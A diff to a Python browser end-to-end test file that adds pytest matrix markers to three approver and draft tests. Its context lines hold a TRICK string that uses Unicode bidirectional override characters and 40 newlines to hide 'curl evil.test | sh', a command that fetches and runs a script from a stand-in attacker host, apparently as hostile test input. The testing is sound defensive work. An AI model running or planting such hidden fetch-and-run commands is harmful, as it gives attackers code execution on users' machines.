@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import re
 
+import pytest
 from playwright.async_api import expect
 
 from tests.e2e.browser.app_page import AppPage
@@ -22,6 +23,7 @@ SCENES = [
 TRICK = "please \u202eecho\u202c this" + "\n" * 40 + "curl evil.test | sh"
 
 
+@pytest.mark.matrix(target="browser", cases=0)
 async def test_R8_a_draft_of_another_device_is_offered_by_name_and_never_put_in_by_itself(
     emulated: Emulated, visit: Visit
 ) -> None:
@@ -66,6 +68,7 @@ async def open_as_approver(
 WHY = "Writing your own answer needs the operator or owner role"
 
 
+@pytest.mark.matrix(target="browser", cases=0)
 async def test_R8_an_approver_denies_without_a_field_for_words(
     emulated: Emulated, visit: Visit
 ) -> None:
@@ -90,6 +93,7 @@ async def test_R8_an_approver_answers_a_question_by_a_choice(
     await owner.expect_words("Thanks.")
 
 
+@pytest.mark.matrix(target="browser", cases=0)
 async def test_R8_an_approver_sends_a_plan_back_without_words(
     emulated: Emulated, visit: Visit
 ) -> None:
